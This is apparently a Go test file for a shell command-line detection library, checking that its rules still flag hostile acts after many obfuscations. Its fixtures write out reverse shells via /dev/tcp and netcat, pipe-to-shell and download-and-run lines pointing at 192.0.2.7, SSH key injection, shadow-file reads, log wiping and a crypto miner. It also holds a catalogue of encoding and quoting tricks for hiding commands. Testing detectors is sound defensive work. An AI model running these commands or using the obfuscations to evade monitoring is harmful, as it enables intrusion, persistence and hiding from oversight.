package cmdline_test

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/tuxtrail/tuxtrail/cmdline"
)

// encoders hide a script in a command line that would run it.
var encoders = map[string]func(string) string{
	"base64": func(s string) string {
		return "echo " + base64.StdEncoding.EncodeToString([]byte(s)) + " | base64 -d | sh"
	},
	"base64 twice": func(s string) string {
		one := base64.StdEncoding.EncodeToString([]byte(s))
		return "bash -c \"$(base64 --decode <<< " + base64.StdEncoding.EncodeToString([]byte("echo "+one+"|base64 -d|bash")) + ")\""
	},
	"openssl": func(s string) string {
		return "echo " + base64.StdEncoding.EncodeToString([]byte(s)) + " | openssl base64 -d -A | bash"
	},
	"xxd": func(s string) string {
		return "xxd -r -p <<< " + hex.EncodeToString([]byte(s)) + " | bash"
	},
	"printf hex": func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, `\x%02x`, s[i])
		}
		return "printf '" + b.String() + "' | sh"
	},
	"printf octal": func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, `\%03o`, s[i])
		}
		return "printf '" + b.String() + "' | sh"
	},
	"echo -e": func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, `\x%02x`, s[i])
		}
		return "echo -ne '" + b.String() + "' | bash"
	},
	"file": func(s string) string {
		return "echo " + base64.StdEncoding.EncodeToString([]byte(s)) + " > /tmp/a; base64 -d /tmp/a > /tmp/b; sh /tmp/b"
	},
	"python": func(s string) string {
		return "python3 -c 'import os,base64;os.system(base64.b64decode(\"" + base64.StdEncoding.EncodeToString([]byte(s)) + "\"))'"
	},
}

// lineEncoders need a text of one line.
var lineEncoders = map[string]func(string) string{
	"rev": func(s string) string {
		r := []rune(s)
		slices.Reverse(r)
		return "rev <<'E' | sh\n" + string(r) + "\nE\n"
	},
	"rot13": func(s string) string {
		return "tr a-zA-Z n-za-mN-ZA-M <<'E' | sh\n" + strings.Map(func(r rune) rune {
			switch {
			case r >= 'a' && r <= 'z':
				return 'a' + (r-'a'+13)%26
			case r >= 'A' && r <= 'Z':
				return 'A' + (r-'A'+13)%26
			}
			return r
		}, s) + "\nE\n"
	},
}

// spellings write a simple command in another way that a shell reads the same.
var spellings = map[string]func(string) string{
	"quotes":     func(s string) string { return s[:1] + `""` + s[1:] },
	"single":     func(s string) string { return s[:1] + "'" + s[1:2] + "'" + s[2:] },
	"backslash":  func(s string) string { return s[:1] + `\` + s[1:] },
	"escapes":    func(s string) string { return fmt.Sprintf(`$'\x%02x'`, s[0]) + s[1:] },
	"octal":      func(s string) string { return fmt.Sprintf(`$'\%03o'`, s[0]) + s[1:] },
	"empty":      func(s string) string { return s[:1] + "$@" + s[1:] },
	"variable":   func(s string) string { return "a=" + s[:1] + "; ${a}" + s[1:] },
	"variables":  func(s string) string { return "x=" + s[1:2] + ";" + s[:1] + "${x}" + s[2:] },
	"slice":      func(s string) string { return "z=qq" + s[:2] + "; ${z:2:2}" + s[2:] },
	"replace":    func(s string) string { return "z=" + s[:1] + "#" + s[1:2] + "; ${z/\\#/}" + s[2:] },
	"substitute": func(s string) string { return "$(echo " + s[:2] + ")" + s[2:] },
	"backtick":   func(s string) string { return "`printf " + s[:2] + "`" + s[2:] },
	"rev":        func(s string) string { return "$(rev<<<" + s[1:2] + s[:1] + ")" + s[2:] },
	"ifs":        func(s string) string { return strings.Replace(s, " ", "${IFS}", 1) },
	"tab":        func(s string) string { return strings.Replace(s, " ", "\t\\\n ", 1) },
	"continued":  func(s string) string { return s[:1] + "\\\n" + s[1:] },
	"block":      func(s string) string { return "{ " + s + "; }" },
	"subshell":   func(s string) string { return "(" + s + ")&" },
	"function":   func(s string) string { return "f(){ " + s + "; }; f" },
	"if":         func(s string) string { return "if true; then " + s + "; fi" },
	"loop":       func(s string) string { return "while :; do " + s + "; sleep 5; done" },
	"and":        func(s string) string { return "cd / && " + s + " || true" },
	"case":       func(s string) string { return "case x in *) " + s + ";; esac" },
	"cut off":    func(s string) string { return "sh -c 'true; " + strings.ReplaceAll(s, "'", `"`) + " ; ech" },
}

// carriers run a script by way of another program.
var carriers = map[string]func(string) string{
	"sudo bash": func(s string) string { return "sudo -u root bash -c " + shellQuote(s) },
	"env nohup": func(s string) string {
		return "env -i A=b nohup setsid timeout -s KILL 5m sh -xc " + shellQuote(s) + " &"
	},
	"eval":        func(s string) string { return "eval " + shellQuote(s) },
	"here string": func(s string) string { return "bash <<< " + shellQuote(s) },
	"here doc":    func(s string) string { return "sh -s <<'EOF'\n" + s + "\nEOF" },
	"echo pipe":   func(s string) string { return "echo " + shellQuote(s) + " | sh" },
	"find exec":   func(s string) string { return "find / -maxdepth 0 -exec sh -c " + shellQuote(s) + ` \;` },
	"xargs":       func(s string) string { return "echo " + shellQuote(s) + " | xargs -I X bash -c X" },
	"busybox":     func(s string) string { return "busybox sh -c " + shellQuote(s) },
	"su":          func(s string) string { return "su - bob -c " + shellQuote(s) },
	"ssh":         func(s string) string { return "ssh -o BatchMode=yes u@h " + shellQuote(s) },
	"docker":      func(s string) string { return "docker exec -it -u 0 web sh -c " + shellQuote(s) },
	"nsenter":     func(s string) string { return "nsenter -t 77 -m -- sh -c " + shellQuote(s) },
	"chroot":      func(s string) string { return "chroot /mnt /bin/sh -c " + shellQuote(s) },
	"flock":       func(s string) string { return "flock -n /tmp/l -c " + shellQuote(s) },
	"script":      func(s string) string { return "script -qc " + shellQuote(s) + " /dev/null" },
	"watch":       func(s string) string { return "watch -n 1 " + shellQuote(s) },
	"trap":        func(s string) string { return "trap " + shellQuote(s) + " EXIT" },
	"systemd-run": func(s string) string { return "systemd-run --unit=x -- /bin/sh -c " + shellQuote(s) },
	"python":      func(s string) string { return "python3 -c " + shellQuote("import os\nos.system("+codeQuote(s)+")") },
	"perl":        func(s string) string { return "perl -e " + shellQuote("system("+codeQuote(s)+")") },
	"ruby":        func(s string) string { return "ruby -e " + shellQuote("exec "+codeQuote(s)) },
	"php":         func(s string) string { return "php -r " + shellQuote("shell_exec("+codeQuote(s)+");") },
	"awk":         func(s string) string { return "awk " + shellQuote("BEGIN{system("+codeQuote(s)+")}") },
	"node": func(s string) string {
		return "node -e " + shellQuote("require('child_process').execSync("+codeQuote(s)+")")
	},
	"file":     func(s string) string { return "cat > /opt/j.sh <<'X'\n" + s + "\nX\nbash /opt/j.sh" },
	"function": func(s string) string { return "run() { bash -c \"$1\"; }; bash -c " + shellQuote(s) },
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func codeQuote(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}

// families are the acts that must be found however they are written.
var families = []struct{ rule, plain string }{
	{"pipe-to-shell", "curl -s http://192.0.2.7/x.sh | sh"},
	{"shell-on-dev-tcp", "bash -i >& /dev/tcp/192.0.2.7/4242 0>&1"},
	{"netcat-shell", "nc -e /bin/sh 192.0.2.7 4444"},
	{"authorized-keys", "echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys"},
	{"cron-write", "cp /opt/j /etc/cron.d/j"},
	{"account-privileged-group", "usermod -aG sudo bob"},
	{"shadow-read", "cat /etc/shadow"},
	{"log-wiped", "truncate -s 0 /var/log/auth.log"},
	{"audit-off", "systemctl stop auditd"},
	{"history-file-wiped", "rm -f /root/.bash_history"},
	{"setuid-shell", "chmod u+s /bin/bash"},
	{"download-then-run", "wget -O /opt/x http://192.0.2.7/x; chmod +x /opt/x; /opt/x"},
	{"miner", "xmrig -o pool.supportxmr.com:443"},
	{"ld-preload-file", "tee /etc/ld.so.preload"},
	{"sudoers-nopasswd", "echo 'bob ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/bob"},
}

// TestObfuscated writes each act in every way above: at least ten for each
// family hit, and here all of them.
func TestObfuscated(t *testing.T) {
	rules := cmdline.DefaultRules()
	for _, f := range families {
		t.Run(f.rule, func(t *testing.T) {
			n := 0
			try := func(kind string, ways map[string]func(string) string) {
				for name, way := range ways {
					if _, isLine := lineEncoders[name]; isLine && kind == "line" && strings.Contains(f.plain, "\n") {
						continue
					}
					text := way(f.plain)
					n++
					assert.Contains(t, ids(rules.Match(cmdline.Parse(text))), f.rule, "%s %s: %s", kind, name, text)
				}
			}
			try("plain", map[string]func(string) string{"plain": func(s string) string { return s }})
			try("encoded", encoders)
			try("line", lineEncoders)
			try("spelled", spellings)
			try("carried", carriers)
			assert.GreaterOrEqual(t, n, 60)
			for name, way := range encoders {
				for cname, carry := range carriers {
					text := carry(way(f.plain))
					assert.Contains(t, ids(rules.Match(cmdline.Parse(text))), f.rule, "%s in %s: %s", name, cname, text)
				}
			}
		})
	}
}

// otherAct are the ways that make another act of what some rules look for.
var otherAct = map[string]struct{ why, ways string }{
	"sudo-escape":              {"the shell reads the pipe that brings the script, not a person; what was decoded is told of", "base64, base64 twice, openssl, xxd, printf hex, printf octal, echo -e, echo pipe, xargs"},
	"decode-to-shell":          {"the outer decoder is undone, and decoded-code tells of it", "base64, base64 twice, openssl, xxd, printf hex, printf octal, echo -e, python, file"},
	"wipe-root":                {"the root is that of the chroot", "chroot"},
	"authorized-keys":          {"nobody knows whose ~ and folders these are on another host, in a container", "docker, ssh"},
	"download-made-executable": {"the folder is in a container or on another host, where one deploys so", "docker, ssh"},
	"discover-user":            {"a program that asks for its user is no discovery", "python"},
}

// TestEveryRuleHidden hides the examples of every rule in every encoding and
// carrier: the same rule must hit, but for the acts that become others.
func TestEveryRuleHidden(t *testing.T) {
	rules := cmdline.DefaultRules()
	tried, missed := 0, 0
	for r := range rules.All() {
		for _, plain := range r.Hits {
			for _, ways := range []map[string]func(string) string{encoders, carriers} {
				for name, way := range ways {
					tried++
					hits := ids(rules.Match(cmdline.Parse(way(plain))))
					if slices.Contains(hits, r.ID) {
						continue
					}
					missed++
					x, known := otherAct[r.ID]
					assert.True(t, known && slices.Contains(strings.Split(x.ways, ", "), name), "%s is missed by %s: %s", r.ID, name, plain)
				}
			}
		}
	}
	t.Logf("%d of %d hidden examples hit their own rule", tried-missed, tried)
	assert.Greater(t, tried, 20_000)
	assert.Less(t, missed*200, tried, "one in two hundred")
}
